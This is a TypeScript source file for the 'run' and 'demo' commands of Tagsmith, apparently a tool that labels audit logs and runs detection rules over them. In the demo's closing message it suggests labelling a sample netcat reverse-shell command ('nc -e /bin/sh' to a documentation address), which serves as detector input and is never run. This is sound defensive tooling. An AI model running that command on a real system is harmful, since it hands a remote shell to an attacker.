import { join } from "node:path";
import { type Config, configSchema } from "../config/config-schema.ts";
import { loadConfig, parseWith } from "../config/load-config.ts";
import { TagsmithError } from "../event/tagsmith-error.ts";
import { type HealthServer, openHealthServer } from "../server/health-server.ts";
import { runHealth } from "../server/run-health.ts";
import type { RunSnapshot } from "../telemetry/run-metrics.ts";
import type { ConnectorRegistry } from "./connector-registry.ts";
import { endLeftovers } from "./end-leftovers.ts";
import { exitCodes } from "./exit-code.ts";
import { observeRun, type RunObserver } from "./observe-run.ts";
import { type OpenPipeline, openPipeline } from "./open-pipeline.ts";
import { bundled } from "./paths.ts";
import { processUse } from "./process-use.ts";
import { summaryJson, summaryText } from "./run-summary.ts";
import { stopOnSignals } from "./stop-on-signals.ts";
import { oneLine, type Terminal } from "./terminal.ts";
import { watchMappings } from "./watch-mappings.ts";

interface RunOptions {
  readonly json: boolean;
  readonly quiet: boolean;
}

/** `tagsmith run`: the pipeline of a configuration file, until its input ends or the process is asked to stop. */
export function runCommand(
  configPath: string,
  options: RunOptions,
  registry: ConnectorRegistry,
  terminal: Terminal,
): Promise<number> {
  return runConfig({ config: loadConfig(configPath), file: configPath }, options, registry, terminal);
}

/** The samples are of one day, and their files are read one behind the other. */
const spanSecs = 86_400;

/** `tagsmith demo`: the bundled samples through the whole pipeline, rules included, into `folder`. */
export async function demoCommand(
  folder: string,
  options: RunOptions,
  registry: ConnectorRegistry,
  terminal: Terminal,
): Promise<number> {
  const files = {
    labels: join(folder, "labels.ndjson"),
    verdicts: join(folder, "verdicts.ndjson"),
    alerts: join(folder, "alerts.ndjson"),
    dead_letters: join(folder, "dead-letters.ndjson"),
  };
  const value = {
    source: { type: "file", paths: [join(bundled.samples(), "*")] },
    sink: { type: "file", ...files, overwrite: true },
    state: { path: ":memory:" },
    detect: { rules: [bundled.rules()], lateness_secs: spanSecs },
  };
  const config = parseWith(configSchema, value, "demo", "");
  const isSilent = options.json || options.quiet;
  if (!isSilent) terminal.out.write("Tagsmith labels its bundled sample audit logs.\n\n");
  const code = await runConfig({ config, file: "demo" }, options, registry, terminal);
  if (!isSilent)
    terminal.out.write(
      `\nWritten: ${files.labels}, ${files.verdicts}, ${files.alerts}\nTry: npx tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n`,
    );
  return code;
}

async function runConfig(
  { config, file }: { readonly config: Config; readonly file: string },
  options: RunOptions,
  registry: ConnectorRegistry,
  terminal: Terminal,
): Promise<number> {
  const isSilent = options.json || options.quiet;
  const stop = stopOnSignals(process, terminal.now, () => {
    if (!isSilent) terminal.err.write("\nStopping: what was read is finished and stored. Ctrl-C again ends at once.\n");
  });
  const observer = observeRun(terminal, isSilent);
  const { counts, summary } = observer;
  const pipeline = await open(config, registry, observer).catch((error: unknown) => {
    throw inFile(error, file);
  });
  for (const warning of pipeline.warnings) terminal.err.write(`tagsmith: warning: ${warning}\n`);
  const health = await openHealth(config, observer, pipeline).catch(async (error: unknown) => {
    await pipeline.close();
    throw inFile(error, file);
  });
  const { detection } = pipeline;
  if (detection !== undefined && !isSilent) terminal.err.write(`${rulesText(detection.size())}\n`);
  const unwatchRules = watchMappings({
    paths: config.detect?.rules ?? [],
    everyMs: config.mappings.reload_secs * 1000,
    reload: () => detection?.reload(),
    onReloaded: () =>
      isSilent || terminal.err.write(`\nThe rules have changed. ${rulesText(detection?.size() ?? 0)}\n`),
    onBroken: ({ code, message }) =>
      terminal.err.write(`\n${oneLine(`tagsmith: ${code}: ${message} The rules stay as they were.`)}\n`),
  });
  const unwatch = watchMappings({
    paths: [config.mappings.path ?? [], config.mappings.extra].flat(),
    everyMs: config.mappings.reload_secs * 1000,
    reload: pipeline.reloadMappings,
    onReloaded: () => isSilent || terminal.err.write("\nThe mappings have changed and are in use.\n"),
    onBroken: ({ code, message }) =>
      terminal.err.write(`\n${oneLine(`tagsmith: ${code}: ${message} The mappings stay as they were.`)}\n`),
  });
  try {
    await pipeline.run(stop.signal);
  } catch (error) {
    if (!stop.isReasonOf(error)) throw error;
    terminal.err.write("Stopped before all that was read could be stored; the rest is read again at the next start.\n");
  } finally {
    unwatch();
    unwatchRules();
    observer.end();
    await health?.close();
    await pipeline.close();
    stop.release();
    if (pipeline.queue !== undefined || config.cluster !== undefined) endLeftovers();
  }
  const seconds = observer.seconds();
  if (options.json) terminal.out.write(`${JSON.stringify(summaryJson(summary, counts, seconds))}\n`);
  else if (!options.quiet) terminal.out.write(summaryText(summary, counts, seconds));
  return stop.signal.aborted ? exitCodes.interrupted : exitCodes.ok;
}

function rulesText(count: number): string {
  return count === 1 ? "1 rule is asked." : `${count.toLocaleString("en-US")} rules are asked.`;
}

/** The modules of a cluster load only where there is one. */
async function open(config: Config, registry: ConnectorRegistry, observer: RunObserver): Promise<OpenPipeline> {
  if (config.cluster === undefined) return openPipeline(config, registry, observer);
  const { openCluster } = await import("./open-cluster.ts");
  return openCluster(config, config.cluster, registry, observer);
}

function openHealth(
  { health }: Config,
  { metrics }: RunObserver,
  pipeline: OpenPipeline,
): Promise<HealthServer | undefined> {
  if (health.port === undefined) return Promise.resolve(undefined);
  const { host, port } = health;
  const snapshot = (): RunSnapshot => {
    const [queue, cluster] = [pipeline.queue?.(), pipeline.cluster?.()];
    return { ...metrics.snapshot(), ...(queue !== undefined && { queue }), ...(cluster !== undefined && { cluster }) };
  };
  return openHealthServer({ host, port, option: "health.port", ...runHealth(snapshot, processUse) });
}

/** A connector knows its settings, not the file they stand in. */
function inFile(error: unknown, file: string): unknown {
  if (!(error instanceof TagsmithError) || error.code !== "config_invalid") return error;
  const lines = error.message.split("\n").map((line) => `${file}: ${line}`);
  return new TagsmithError(error.code, lines.join("\n"), error.remedy, error.cause);
}
